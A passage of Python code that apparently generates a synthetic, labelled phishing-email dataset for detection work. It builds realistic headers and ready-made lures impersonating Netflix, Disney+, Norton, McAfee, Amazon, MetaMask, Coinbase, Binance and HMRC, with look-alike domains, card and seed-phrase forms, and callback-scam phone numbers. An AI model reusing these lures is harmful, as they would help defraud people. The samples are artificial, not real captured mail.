                       [text("Your account is on hold\n\nWe're having some trouble with your current billing information.\n"
                             f"Update account now: {link}\n\n- Your friends at Netflix\n", "plain", "7bit", "UTF-8"),
                        text(html, "html", "quoted-printable", "UTF-8")]))


def a26():
    seed = "a26"
    t = at(2025, 8, 5, 13, 12, 26)
    rcpt = "rafaelcosta.sp@hotmail.com"
    frm = "notificacao@assinaturas-streaming.com"
    mj = lambda n: f"https://{aln(seed + 'sub', 4, 'abcdefghijklmnopqrstuvwxyz')}.mjt.lu/lnk/AV{b64url(seed + 'l' + n, 150)}"  # noqa: E731
    envfrom = f"{hx(seed + 'e1', 8)}.{aln(seed + 'e2', 6, UPNUM)}.{hx(seed + 'e3', 4)}@bnc3.mailjet.com"
    ip = "87.253.232.144"
    ptr = "o144.p8.mailjet.com"
    sender = "\n".join([
        dkim("bnc3.mailjet.com", "mailjet", t, "message-id:date:subject:from:to:mime-version:content-type:"
             "list-unsubscribe:list-unsubscribe-post:feedback-id:x-csa-complaints:x-mj-mid", seed + "1"),
        dkim("assinaturas-streaming.com", "mailjet", t, "message-id:date:subject:from:to:mime-version:content-type:"
             "list-unsubscribe:list-unsubscribe-post:feedback-id:x-csa-complaints:x-mj-mid", seed + "2"),
        f"Message-Id: <{guid(seed + 'mid')}@mailjet.com>",
        f"Date: {rfc(t - timedelta(seconds=1), 0)}",
        f"Subject: {ew('Sua assinatura Netflix foi suspensa - atualize seu pagamento')}",
        f"From: {addr('Netflix', frm)}",
        f"To: {rcpt}",
        "MIME-Version: 1.0",
        f"List-Unsubscribe: <mailto:unsub-{hx(seed + 'u', 8)}.{aln(seed + 'u2', 6, UPNUM)}.{hx(seed + 'u3', 4)}@unsub-bnc3.mailjet.com>, "
        f"<https://{aln(seed + 'sub', 4, 'abcdefghijklmnopqrstuvwxyz')}.mjt.lu/unsub2?m=AV{b64url(seed + 'un', 40)}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Feedback-Id: 42.{digits(seed + 'fid', 7)}.{digits(seed + 'fie', 7)}:MJ",
        "X-CSA-Complaints: csa-complaints@eco.de",
        f"X-MJ-Mid: AAAA{b64(seed + 'mjm', 60)}",
        f"X-Mailjet-Campaign: {digits(seed + 'camp', 10)}",
    ])
    html = html_page(f"""<body style="margin:0;background:#f5f5f1">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'Netflix Sans',Helvetica,Arial,sans-serif"><tr><td align="center" style="padding:20px 0">
<table width="500" cellpadding="0" cellspacing="0" style="background:#ffffff;padding:0 40px">
<tr><td style="padding:28px 0 20px 0"><span style="color:#e50914;font-size:30px;font-weight:900">NETFLIX</span></td></tr>
<tr><td style="font-size:28px;font-weight:bold;color:#221f1f;padding-bottom:16px">Atualize sua forma de pagamento</td></tr>
<tr><td style="font-size:16px;color:#221f1f;line-height:23px;padding-bottom:10px">Olá,</td></tr>
<tr><td style="font-size:16px;color:#221f1f;line-height:23px;padding-bottom:20px">Não foi possível processar o pagamento da sua mensalidade. Sua assinatura foi <b>suspensa temporariamente</b> e será cancelada em 48 horas se os dados de pagamento não forem atualizados.</td></tr>
<tr><td style="padding-bottom:26px"><a href="{mj('1')}" style="display:block;background:#e50914;color:#ffffff;text-align:center;padding:14px;font-size:16px;font-weight:bold;text-decoration:none;border-radius:4px">ATUALIZAR PAGAMENTO</a></td></tr>
<tr><td style="font-size:14px;color:#221f1f;padding-bottom:30px">Equipe Netflix</td></tr>
<tr><td style="font-size:11px;color:#a9a6a6;border-top:2px solid #221f1f;padding:20px 0">Dúvidas? Ligue 0800 591 2876<br>
<a href="{mj('2')}" style="color:#a9a6a6">Central de Ajuda</a> &middot; <a href="{mj('3')}" style="color:#a9a6a6">Cancelar inscrição</a><br>Netflix Entretenimento Brasil Ltda.</td></tr>
</table></td></tr></table>
<img src="https://{aln(seed + 'sub', 4, 'abcdefghijklmnopqrstuvwxyz')}.mjt.lu/oo/AV{b64url(seed + 'oo', 90)}.gif" height="1" width="1" alt="" border="0" style="height:1px;width:1px;border:0">
</body>""", lang="pt-BR")
    plain = f"""NETFLIX

Atualize sua forma de pagamento

Olá,

Não foi possível processar o pagamento da sua mensalidade. Sua assinatura foi suspensa temporariamente e será cancelada em 48 horas se os dados de pagamento não forem atualizados.

ATUALIZAR PAGAMENTO [{mj('1')}]

Equipe Netflix
"""
    body = Multi("alternative", f"=-{aln(seed + 'bd', 20)}", [text(plain, "plain"), text(html, "html")])
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(envfrom, "pass", "assinaturas-streaming.com", "pass", "assinaturas-streaming.com", "pass",
                              "mailjet"), sender, lang="pt", ctry="FR", bulk=True)
    add("b35-phish-netflix-suspensa-pt", "phish", "phishing",
        "Portuguese Netflix 'assinatura suspensa, atualize o pagamento' lure sent as a Mailjet campaign from the "
        "throwaway domain assinaturas-streaming.com (passes SPF/DKIM/DMARC); mjt.lu tracked links to a card form",
        headers, body)


def a27():
    seed = "a27"
    t = at(2025, 10, 14, 1, 38, 52)
    rcpt = "valeria.ortiz.mty@gmail.com"
    frm = "contacto@inmobiliariacasasol.com.mx"
    link = "https://disneyplus-facturacion.com/mx/cuenta/pago?ref=" + hx(seed + "r", 10)
    host = "mx58.hostgator.mx"
    ip = "192.185.48.158"
    sender = "\n".join([
        exim(host, t - timedelta(seconds=1), rcpt, frm, seed, client="[190.14.226.40] (port=54021 helo=DESKTOP-K2L7V0Q)",
             auth_user=frm, off=-360),
        dkim("inmobiliariacasasol.com.mx", "default", t, CPANEL_H, seed, extra=" q=dns/txt;"),
        f"From: {addr('Disney+', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Tu suscripción a Disney+ se ha suspendido: problema con tu método de pago')}",
        f"Date: {rfc(t - timedelta(seconds=2), -360)}",
        f"Message-ID: <{hx(seed + 'm', 32)}@inmobiliariacasasol.com.mx>",
        "MIME-Version: 1.0",
        cpanel_antiabuse(host, "gmail.com", frm, "[2044 2041] / [47 12]"),
    ])
    html = html_page(f"""<body style="margin:0;background:#040714">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#040714;font-family:Avenir,Helvetica,Arial,sans-serif"><tr><td align="center" style="padding:30px 10px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#1a1d29;border-radius:6px">
<tr><td align="center" style="padding:30px 0 10px 0;color:#ffffff;font-size:34px;font-family:Georgia,serif">Disney<span style="color:#5ad1e9">+</span></td></tr>
<tr><td style="padding:20px 36px;color:#f9f9f9;font-size:16px;line-height:24px">
<p style="font-size:22px;font-weight:bold">Hubo un problema con tu pago</p>
<p>No pudimos procesar el cargo de tu plan <b>Disney+ Premium</b> ($299.00 MXN). Tu suscripción se ha suspendido y perderás el acceso a tus series y películas.</p>
<p>Para seguir disfrutando de Disney+, Star y ESPN, actualiza tu información de pago.</p>
</td></tr>
<tr><td align="center" style="padding:10px 0 34px 0"><a href="{link}" style="background:#0072d2;color:#ffffff;padding:14px 40px;border-radius:4px;text-decoration:none;font-weight:bold;letter-spacing:1px">ACTUALIZAR PAGO</a></td></tr>
<tr><td style="padding:0 36px 30px 36px;color:#8f9199;font-size:11px">Este mensaje fue enviado por Disney+. &copy; 2025 Disney y sus entidades relacionadas. Todos los derechos reservados.</td></tr>
</table></td></tr></table>
</body>""", lang="es")
    headers = gmail_in(seed, t, rcpt, ip, "gator4142.hostgator.com",
                       Auth(frm, "pass", "inmobiliariacasasol.com.mx", "none", "inmobiliariacasasol.com.mx", "pass",
                            "default"), sender)
    add("b35-phish-disney-pago-es", "phish", "phishing",
        "Disney+ 'suscripción suspendida, actualiza tu pago' lure sent from a compromised Mexican real-estate "
        "mailbox on HostGator (auth passes for that domain); button to a disneyplus-facturacion.com card form",
        headers, text(html, "html"))


def a28():
    seed = "a28"
    t = at(2025, 2, 14, 16, 20, 9)
    rcpt = "r.benton1962@hotmail.com"
    frm = "christierowan8842@gmail.com"
    host = "mail-pj1-f44.google.com"
    order = f"NL-{digits(seed + 'o', 8)}"
    phone = "+1 (808) 493-2187"
    pdf = pdf_doc([
        "NortonLifeLock Inc.                                    INVOICE",
        "60 E Rio Salado Pkwy, Tempe, AZ 85281",
        "",
        f"Invoice No: {order}                  Date: 02/14/2025",
        "Customer ID: NT-88412-0931",
        "Payment method: Auto-debit from linked bank account",
        "",
        "Description                                  Qty     Amount",
        "Norton 360 Deluxe + VPN (5 devices, 3 years)   1     $399.99",
        "Sales tax                                                 $0.00",
        "TOTAL                                                   $399.99",
        "",
        "Your subscription has been renewed successfully and the amount will be",
        "debited from your account within 24 hours.",
        "",
        "If you did not authorize this renewal or wish to cancel and claim a",
        f"full refund, contact our Billing Support Team at {phone}",
        "(Mon-Sat, 9 AM - 8 PM EST) within 24 hours of receiving this invoice.",
        "",
        "Thank you for choosing Norton.",
    ], "Invoice", "20250214101500-05'00'")
    sender = gmail_out(seed, t, host, "Christie Rowan", frm, frm,
                       f"Your Order #{order} Has Been Processed", "hotmail.com", off=-300)
    plain = """Dear Customer,

Thank you for your purchase. Your order has been processed successfully and the invoice is attached for your records.

For any queries regarding the order, please refer to the attached invoice.

Regards,
Billing Department
"""
    html = '<div dir="ltr">Dear Customer,<div><br></div><div>Thank you for your purchase. Your order has been processed successfully and the invoice is attached for your records.</div><div><br></div><div>For any queries regarding the order, please refer to the attached invoice.</div><div><br></div><div>Regards,</div><div>Billing Department</div></div>\n'
    body = Multi("mixed", f"000000000000{hx(seed + 'mx', 12)}", [
        gmail_alt(seed, plain, html),
        attachment("application/pdf", f"INV_{order}.pdf", pdf),
    ])
    headers = outlook_in(seed, t, rcpt, "209.85.216.44", host, host,
                         Auth(frm, "pass", "gmail.com", "pass", "gmail.com", "pass", "20230601"), sender)
    add("b35-phish-norton-invoice-callback", "phish", "phishing",
        "Fake Norton 360 $399.99 renewal invoice as a PDF attachment, sent from a free Gmail account to itself with the "
        "victim in Bcc; no links, the PDF gives a phone number for 'refunds' (callback / remote-access scam)",
        headers, body)


def a29():
    seed = "a29"
    t = at(2025, 9, 2, 20, 48, 31)
    rcpt = "kbrennan@live.com"
    frm = "alert@mx4.secure-renewal-center.xyz"
    trk = lambda n: f"https://trk.secure-renewal-center.xyz/click?o={digits(seed + 'o', 4)}&a={digits(seed + 'a', 3)}&s={n}&c={hx(seed + n, 10)}"  # noqa: E731
    ip = "23.95.134.211"
    ptr = "23-95-134-211-host.colocrossing.com"
    helo = "mx4.secure-renewal-center.xyz"
    sender = "\n".join([
        postfix(helo, t - timedelta(seconds=1), rcpt, seed, client="localhost (localhost [127.0.0.1])", off=-240),
        dkim("mx4.secure-renewal-center.xyz", "key1", t, "From:To:Subject:Date:Message-ID:List-Unsubscribe:MIME-Version",
             seed, bits=1024),
        f"From: {addr('McAfee Total Protection', frm)}",
        f"To: {rcpt}",
        "Subject: =?UTF-8?B?4pqg77iP?= Your McAfee subscription expired today - your PC is at risk",
        f"Date: {rfc(t - timedelta(seconds=2), -240)}",
        f"Message-ID: <{digits(seed + 'm', 12)}.{hx(seed + 'mm', 16)}@mx4.secure-renewal-center.xyz>",
        f"List-Unsubscribe: <{trk('unsub')}>",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="margin:0;background:#ffffff;font-family:Arial,Helvetica,sans-serif">
<center>
<a href="{trk('1')}"><img src="https://storage.googleapis.com/rnw-cdn-{hx(seed + 'c', 6)}/mcf_expired_hdr.png" width="600" height="220" alt="McAfee - Your subscription has expired" style="display:block;border:0"></a>
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="padding:20px 26px;font-size:16px;color:#222;line-height:24px">
<p style="color:#c01818;font-size:20px;font-weight:bold">Your McAfee subscription expired today!</p>
<p>Your PC may be unprotected against viruses, ransomware and identity theft. <b>5 threats</b> were found during the last scan.</p>
<p>Renew today and get up to <b>80% OFF</b> - limited time offer for existing customers.</p>
<p style="text-align:center;padding:12px 0"><a href="{trk('2')}" style="background:#c01818;color:#fff;padding:15px 40px;font-size:18px;font-weight:bold;text-decoration:none;border-radius:4px">RENEW NOW</a></p>
</td></tr></table>
<a href="{trk('3')}"><img src="https://storage.googleapis.com/rnw-cdn-{hx(seed + 'c', 6)}/mcf_footer.png" width="600" height="120" alt="" style="display:block;border:0"></a>
<p style="font-size:10px;color:#999;width:560px;padding-top:30px">You are receiving this message because you subscribed to our partner offers. This is an independent advertisement and is not affiliated with or endorsed by the brand shown.
To stop receiving these emails <a href="{trk('unsub')}" style="color:#999">unsubscribe here</a> or write to 1931 Hartog Dr, San Jose, CA 95131.</p>
</center>
</body>""")
    headers = outlook_in(seed, t, rcpt, ip, ptr, helo,
                         Auth(frm, "pass", "mx4.secure-renewal-center.xyz", "none", "mx4.secure-renewal-center.xyz",
                              "pass", "key1"), sender, bulk=True)
    add("b35-phish-mcafee-expired", "phish", "phishing",
        "Fake-alert 'McAfee subscription expired today, 5 threats found' mail from a ColoCrossing snowshoe domain, "
        "mostly images, every link through a tracking redirector to a scareware / affiliate renewal page",
        headers, text(html, "html"))


def a30():
    seed = "a30"
    t = at(2024, 7, 23, 11, 15, 4)
    rcpt = "sofia.herrera.mx@outlook.com"
    frm = "no-reply@amazon.com.mx"
    ip = "185.225.69.204"
    link = "https://amzn-prime-membresia.com/mx/ap/signin?openid=" + hx(seed + "o", 14)
    sender = "\n".join([
        f"Received: from [127.0.0.1] (localhost [127.0.0.1])\n\tby 185-225-69-204.static.m247.ro (Postfix) with ESMTPSA id {hx(seed + 'q', 10, True)}\n\tfor <{rcpt}>; {rfc(t - timedelta(seconds=1), 180)}",
        f"From: {addr('Amazon.com.mx', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Su membresía Prime no pudo renovarse - Actualice su método de pago')}",
        f"Date: {rfc(t - timedelta(seconds=2), -360)}",
        f"Message-ID: <0101019{hx(seed + 'm', 9)}-{guid(seed + 'mg')}-000000@us-west-2.amazonses.com>",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="margin:0;font-family:'Amazon Ember',Arial,sans-serif;color:#0f1111">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:18px 20px;border-bottom:1px solid #ddd"><span style="font-size:26px;font-weight:bold;color:#131921">amazon</span><span style="color:#ff9900;font-size:14px">.com.mx</span> <span style="color:#00a8e1;font-weight:bold">prime</span></td></tr>
<tr><td style="padding:22px 20px;font-size:14px;line-height:21px">
<p style="font-size:18px;font-weight:bold">Hola:</p>
<p>Intentamos cobrar tu membresía de <b>Amazon Prime</b> ($99.00 MXN) pero el pago fue rechazado por tu banco.</p>
<p>Para no perder tus beneficios (envíos gratis y rápidos, Prime Video y Prime Gaming), actualiza tu método de pago. Si no lo haces en los próximos 2 días, tu membresía se cancelará.</p>
<p style="padding:10px 0"><a href="{link}" style="background:#ffd814;border:1px solid #fcd200;color:#0f1111;padding:10px 24px;border-radius:20px;text-decoration:none">Actualizar método de pago</a></p>
<p>Gracias,<br>Equipo de Amazon Prime</p>
</td></tr>
<tr><td style="padding:16px 20px;font-size:11px;color:#565959;border-top:1px solid #ddd">Este correo electrónico fue enviado desde una dirección que no puede recibir respuestas. &copy; 2024 Amazon.com, Inc. o sus afiliados.</td></tr>
</table>
</body>""", lang="es-MX")
    headers = outlook_in(seed, t, rcpt, ip, "185-225-69-204.static.m247.ro", "185-225-69-204.static.m247.ro",
                         Auth(frm, "softfail", "amazon.com.mx", "fail", action="quarantine"),
                         sender, scl=5, cat="SPOOF", lang="es", ctry="RO")
    add("b35-phish-amazon-prime-spoof-es", "phish", "phishing",
        "Amazon Prime México 'membresía no pudo renovarse' mail spoofing no-reply@amazon.com.mx from a Romanian VPS "
        "(SPF softfail, no DKIM, DMARC fail, quarantined) with a fake SES Message-ID; link to a look-alike sign-in",
        headers, text(html, "html"))


def a31():
    seed = "a31"
    t = at(2025, 3, 17, 15, 56, 2)
    rcpt = "tyler.brooks.dev@gmail.com"
    frm = "support@metamask-kyc.com"
    uid = "49120388"
    envfrom = f"bounces+{uid}-{hx(seed + 'e', 4)}-{rcpt.replace('@', '=')}@em4471.metamask-kyc.com"
    click = lambda n: f"https://url{digits(seed + 'u', 4)}.metamask-kyc.com/ls/click?upn=u001.{b64url(seed + 'c' + n, 150)}"  # noqa: E731
    ip = "149.72.207.19"
    ptr = "o1.ptr9514.metamask-kyc.com"
    sender = "\n".join([
        dkim("metamask-kyc.com", "s1", t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to", seed + "1"),
        dkim("sendgrid.info", "smtpapi", t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to",
             seed + "2", bits=1024),
        f"Received: by recvd-{hx(seed + 'rv', 10)}-{aln(seed + 'rw', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')} with SMTP id "
        f"recvd-{hx(seed + 'rv', 10)}-{aln(seed + 'rw', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')}-1-{hx(seed + 'rx', 8, True)}-{int(hx(seed, 2), 16)}\n"
        f"        {t - timedelta(seconds=2):%Y-%m-%d %H:%M:%S}.{digits(seed + 'ns', 9)} +0000 UTC m=+{digits(seed + 'mm', 7)}.{digits(seed + 'mn', 9)}",
        f"Received: from {uid} (unknown)\n\tby geopod-ismtpd-{int(hx(seed + 'g', 2), 16) % 40} (SG) with HTTP\n\tid "
        f"{b64url(seed + 'sgid', 22)}\n\t{rfc(t - timedelta(seconds=3))} (UTC)",
        f"Date: {rfc(t - timedelta(seconds=3))} (UTC)",
        f"From: {addr('MetaMask', frm)}",
        "Subject: Action required: complete your wallet verification before March 31, 2025",
        f"To: {rcpt}",
        f"Message-ID: <{b64url(seed + 'mid', 22)}@geopod-ismtpd-{int(hx(seed + 'g', 2), 16) % 40}>",
        "MIME-Version: 1.0",
        fold(f"X-SG-EID: u001.{b64(seed + 'eid', 200)}", 78, " ", split_long=True),
        f"X-Entity-ID: u001.{b64(seed + 'ent', 24)}==",
    ])
    html = html_page(f"""<body style="margin:0;background:#f7f9fc;font-family:'Euclid Circular B',Helvetica,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px 10px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:10px">
<tr><td style="padding:30px 36px 10px 36px"><span style="font-size:24px;font-weight:bold;color:#f6851b">&#129418; METAMASK</span></td></tr>
<tr><td style="padding:10px 36px;font-size:15px;color:#24272a;line-height:24px">
<p style="font-size:21px;font-weight:bold">Wallet verification required</p>
<p>Dear MetaMask user,</p>
<p>In line with new anti-money-laundering requirements, all self-custody wallets connected to the MetaMask extension and mobile app must complete a one-time verification by <b>March 31, 2025</b>.</p>
<p>Wallets that are not verified by this date will have restricted access to Swaps, Bridge and Portfolio features, and may be unable to send funds.</p>
<p style="text-align:center;padding:14px 0"><a href="{click('1')}" style="background:#037dd6;color:#ffffff;padding:14px 36px;border-radius:100px;text-decoration:none;font-weight:bold">Verify my wallet</a></p>
<p style="font-size:13px;color:#6a737d">Verification takes less than 2 minutes. You will be asked to confirm ownership of your wallet.</p>
<p>The MetaMask Team</p>
</td></tr>
<tr><td style="padding:20px 36px;font-size:11px;color:#9fa6ae;border-top:1px solid #eee">&copy; 2025 Consensys Software Inc. &middot; <a href="{click('2')}" style="color:#9fa6ae">Unsubscribe</a></td></tr>
</table></td></tr></table>
<img src="https://url{digits(seed + 'u', 4)}.metamask-kyc.com/wf/open?upn=u001.{b64url(seed + 'op', 110)}" alt="" width="1" height="1" border="0">
</body>""")
    plain = f"""METAMASK

Wallet verification required

Dear MetaMask user,

In line with new anti-money-laundering requirements, all self-custody wallets must complete a one-time verification by March 31, 2025.

Verify my wallet ( {click('1')} )

The MetaMask Team
"""
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(envfrom, "pass", "metamask-kyc.com", "none", "metamask-kyc.com", "pass", "s1"), sender)
    add("b35-phish-metamask-verification", "phish", "phishing",
        "MetaMask 'mandatory AML wallet verification by March 31' lure sent through SendGrid with its own look-alike "
        "domain authenticated (SPF/DKIM pass); tracked link to a page asking for the wallet's secret recovery phrase",
        headers, Multi("alternative", hx(seed + "bd", 64), [text(plain, "plain"), text(html, "html")]))


def a32():
    seed = "a32"
    t = at(2025, 5, 14, 4, 22, 50)
    rcpt = "tmarsh_1979@hotmail.com"
    frm = "no-reply@coinbase-support-case.com"
    case = f"CB-2025-{digits(seed + 'c', 6)}"
    phone = "+1 (855) 742-0198"
    wallet = "bc1q" + aln(seed + "w", 38, "qpzry9x8gf2tvdw0s3jn54khce6mua7l")
    ip = "40.107.93.57"
    ptr = "mail-dm6nam10on2057.outbound.protection.outlook.com"
    mbx = f"CY8PR14MB{digits(seed + 'mb', 4)}.namprd14.prod.outlook.com"
    sender = "\n".join([
        dkim("coinbasesupportcase.onmicrosoft.com", "selector1-coinbasesupportcase-onmicrosoft-com", t,
             "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", seed),
        fold(f"Received: from {mbx} (2603:10b6:930:6e::15) by {mbx.replace('CY8PR14MB', 'SA0PR14MB')} with Microsoft SMTP "
             f"Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exch_build(t)}; {rfc(t - timedelta(seconds=1))}"),
        f"From: {addr('Coinbase', frm)}",
        f"To: {addr('', rcpt)}",
        f"Subject: Withdrawal request 0.4215 BTC - Case #{case}",
        f"Thread-Topic: Withdrawal request 0.4215 BTC - Case #{case}",
        f"Thread-Index: {b64(seed + 'ti', 24)}",
        f"Date: {rfc(t - timedelta(seconds=2))}",
        f"Message-ID: {exchange_mid(seed, mbx)}",
        "Accept-Language: en-US",
        "Content-Language: en-US",
        "X-MS-Has-Attach: ",
        "X-MS-TNEF-Correlator: ",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body>
<div style="font-family:'Coinbase Sans',Helvetica,Arial,sans-serif;max-width:560px;color:#0a0b0d">
<p style="font-size:26px;font-weight:bold;color:#0052ff">coinbase</p>
<p style="font-size:20px;font-weight:bold">A withdrawal was requested from your account</p>
<table cellpadding="6" style="font-size:14px;width:100%;background:#f5f8ff;border-radius:8px">
<tr><td>Amount</td><td><b>0.4215 BTC</b> (&asymp; $43,612.90)</td></tr>
<tr><td>Destination</td><td style="font-family:monospace;font-size:12px">{wallet}</td></tr>
<tr><td>Requested</td><td>May 14, 2025 04:09 UTC from Lagos, Nigeria</td></tr>
<tr><td>Case ID</td><td>{case}</td></tr>
</table>
<p style="font-size:14px;line-height:21px">This withdrawal will be processed automatically in <b>30 minutes</b>. If you did not make this request, your account may be compromised. Call Coinbase Support immediately at <b>{phone}</b> and provide your Case ID so that an agent can cancel the transaction and secure your funds.</p>
<p style="font-size:12px;color:#5b616e">Coinbase will never ask you to share your password or 2-step verification codes.<br>&copy; 2025 Coinbase, Inc. 248 3rd St #434, Oakland, CA 94607</p>
</div>
</body>""")
    plain = f"""coinbase

A withdrawal was requested from your account

Amount: 0.4215 BTC
Destination: {wallet}
Requested: May 14, 2025 04:09 UTC from Lagos, Nigeria
Case ID: {case}

This withdrawal will be processed automatically in 30 minutes. If you did not make this request, call Coinbase Support immediately at {phone} and provide your Case ID.
"""
    body = Multi("alternative", f"_000_{mbx.split('.')[0]}{hx(seed + 'bd', 16, True)}namp_",
                 [text(plain, "plain", "quoted-printable", "us-ascii"), text(html, "html", "quoted-printable", "us-ascii")])
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "coinbase-support-case.com", "none", "coinbasesupportcase.onmicrosoft.com",
                              "pass", "selector1-coinbasesupportcase-onmicrosoft-com", compauth="pass", reason="109"),
                         sender)
    add("b35-phish-coinbase-withdrawal-callback", "phish", "phishing",
        "Coinbase 'withdrawal of 0.4215 BTC in 30 minutes' alert from a look-alike domain on an attacker's Microsoft 365 "
        "tenant (SPF pass, onmicrosoft DKIM); no link, the victim is told to call a fake support number with a case ID",
        headers, body)


def a33():
    seed = "a33"
    t = at(2025, 11, 3, 23, 7, 18)
    rcpt = "pedrohenrique.alves@outlook.com"
    frm = "do-not-reply@binance-seguranca.com"
    link = f"https://binance-seguranca.com/pt-BR/my/security/cancel-withdraw?id={hx(seed + 'i', 24)}"
    ip = "188.166.41.230"
    helo = "mail.binance-seguranca.com"
    sender = "\n".join([
        postfix(helo, t - timedelta(seconds=1), rcpt, seed),
        dkim("binance-seguranca.com", "mail", t, "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type", seed),
        f"Date: {rfc(t - timedelta(seconds=2), 0)}",
        f"From: {addr('Binance', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('[Binance] Confirmação de saque - 2.350,00 USDT - ' + t.strftime('%Y-%m-%d %H:%M:%S') + ' (UTC)')}",
        f"Message-ID: <{hx(seed + 'm', 32)}@binance-seguranca.com>",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="margin:0;background:#fafafa;font-family:BinancePlex,Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#181a20;padding:18px 26px;color:#f0b90b;font-size:22px;font-weight:bold">&#9670; BINANCE</td></tr>
<tr><td style="padding:26px;font-size:14px;color:#1e2329;line-height:22px">
<p style="font-size:20px;font-weight:bold">Saque solicitado</p>
<p>Você solicitou um saque de <b>2.350,00 USDT</b> da sua conta Binance.</p>
<table cellpadding="6" style="font-size:13px;background:#f5f5f5;width:100%">
<tr><td>Rede:</td><td>TRX (TRC20)</td></tr>
<tr><td>Endereço:</td><td style="font-family:monospace">TQv8{aln(seed + 'a', 30)}</td></tr>
<tr><td>IP:</td><td>91.203.145.17 (Ucrânia)</td></tr>
</table>
<p>Se você <b>não</b> reconhece esta atividade, cancele o saque e desative sua conta imediatamente:</p>
<p style="padding:6px 0"><a href="{link}" style="background:#fcd535;color:#181a20;padding:12px 28px;text-decoration:none;font-weight:bold;border-radius:4px">Cancelar saque</a></p>
<p style="font-size:12px;color:#707a8a">Equipe Binance<br>Este é um e-mail automático, por favor não responda.</p>
</td></tr>
<tr><td style="padding:16px 26px;font-size:11px;color:#929aa5;background:#fafafa">&copy; 2025 Binance.com, Todos os direitos reservados.</td></tr>
</table>
</body>""", lang="pt-BR")
    headers = outlook_in(seed, t, rcpt, ip, "mail.binance-seguranca.com", helo,
                         Auth(frm, "pass", "binance-seguranca.com", "none", "binance-seguranca.com", "pass", "mail"),
                         sender, lang="pt", ctry="NL")
    add("b35-phish-binance-saque-pt", "phish", "phishing",
        "Portuguese Binance 'saque de 2.350 USDT solicitado' alert from a look-alike on a DigitalOcean droplet (own "
        "SPF/DKIM); 'Cancelar saque' button to the look-alike's login and 2FA page",
        headers, text(html, "html"))


def a34():
    seed = "a34"
    t = at(2025, 4, 28, 9, 41, 55)
    rcpt = "olivia.harcourt@outlook.com"
    frm = "accounts@pemberton-joinery.co.uk"
    link = f"https://hmrc-refund-claim-2025.web.app/?ref=UTR{digits(seed + 'r', 10)}"
    ip = "213.171.216.114"
    ptr = "smtp.livemail.co.uk"
    sender = "\n".join([
        f"Received: from DESKTOP-9F1QH2L (unknown [41.190.3.77])\n\t(Authenticated sender: {frm})\n\tby "
        f"smtp.livemail.co.uk (Postfix) with ESMTPSA id {hx(seed + 'q', 10, True)}\n\tfor <{rcpt}>; {rfc(t - timedelta(seconds=1), 60)}",
        f"From: {addr('HM Revenue & Customs', frm)}",
        f"To: {rcpt}",
        "Subject: HMRC: You are eligible for a tax refund of GBP 478.22",
        f"Date: {rfc(t - timedelta(seconds=2), 60)}",
        f"Message-ID: <{hx(seed + 'm', 8, True)}-{hx(seed + 'n', 4, True)}-{hx(seed + 'o', 4, True)}@DESKTOP-9F1QH2L>",
        "MIME-Version: 1.0",
        "X-Mailer: Microsoft Outlook 16.0",
    ])
    html = html_page(f"""<body style="font-family:Arial,Helvetica,sans-serif;color:#0b0c0c">
<div style="max-width:580px">
<div style="background:#0b0c0c;padding:14px 18px;color:#fff;font-size:24px;font-weight:bold">&#9813; GOV.UK</div>
<div style="border-left:6px solid #00703c;padding:4px 16px;margin:22px 0;font-size:19px"><b>HM Revenue &amp; Customs</b></div>
<p style="font-size:16px">Dear Taxpayer,</p>
<p style="font-size:16px;line-height:24px">After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>&pound;478.22</b>.</p>
<p style="font-size:16px;line-height:24px">Please submit the tax refund request and allow us 3-5 working days to process it. A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.</p>
<p style="padding:6px 0"><a href="{link}" style="background:#00703c;color:#ffffff;padding:10px 20px;font-size:17px;text-decoration:none;box-shadow:0 2px 0 #002d18">Claim your refund</a></p>
<p style="font-size:14px;color:#505a5f">Reference: UTR{digits(seed + 'r', 10)}<br>Deadline: 30 April 2025</p>
<p style="font-size:16px">HM Revenue &amp; Customs</p>
</div>
</body>""")
    headers = outlook_in(seed, t, rcpt, ip, ptr, "smtp.livemail.co.uk",
                         Auth(frm, "pass", "pemberton-joinery.co.uk", "none", "", "none"),
                         sender, ctry="GB")
    add("b35-phish-hmrc-tax-refund", "phish", "phishing",
        "GOV.UK-styled 'you are eligible for a tax refund of 478.22' lure sent from a compromised joinery's Fasthosts "
        "mailbox (logged in from Nigeria); 'Claim your refund' link to a Firebase web.app card and identity form",
        headers, text(html, "html", "quoted-printable", "us-ascii"))


def a35():
    seed = "a35"
    t = at(2024, 10, 8, 15, 33, 19)
    rcpt = "contabilidad@ferreteradelbajio.com.mx"
    frm = "avisos@notificaciones-sat.com.mx"
    link = f"https://sat-cfdi-descarga.azurewebsites.net/descarga.php?rfc=FBA061115KQ7&folio={guid(seed + 'f').upper()}"
    ip = "20.84.41.172"
    helo = "mail.notificaciones-sat.com.mx"
    sender = "\n".join([
